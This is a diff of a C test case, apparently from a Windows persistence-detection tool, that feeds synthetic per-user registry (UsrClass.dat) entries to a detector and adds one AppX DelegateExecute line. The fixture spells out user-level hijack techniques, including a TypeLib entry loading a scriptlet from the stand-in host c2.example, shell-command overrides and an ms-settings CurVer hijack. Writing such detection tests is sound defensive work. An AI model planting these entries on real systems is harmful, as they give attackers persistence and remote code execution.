@@ -474,6 +474,7 @@ TEST(odd_places_of_a_user_that_start_something)
 		      "[TypeLib\\{3}\\1.0\\0\\win64]\n@=sz:script:https://c2.example/x.sct\n"
 		      "[exefile\\shell\\runas\\command]\nIsolatedCommand=sz:C:\\u.exe\n"
 		      "[Folder\\shell\\open\\command]\n@=sz:C:\\f.exe\nDelegateExecute=sz:\n"
+		      "[AppX1\\shell\\open\\command]\nDelegateExecute=sz:{4ED3A719-CEA8-4BD9-910D-E252F997AFC2}\n"
 		      "[ms-settings\\CurVer]\n@=sz:.evil\n[Protocols\\Handler\\evil]\nCLSID=sz:" GUID "\n",
 		      "Users/ann/AppData/Local/Microsoft/Windows/UsrClass.dat", rows);
 }
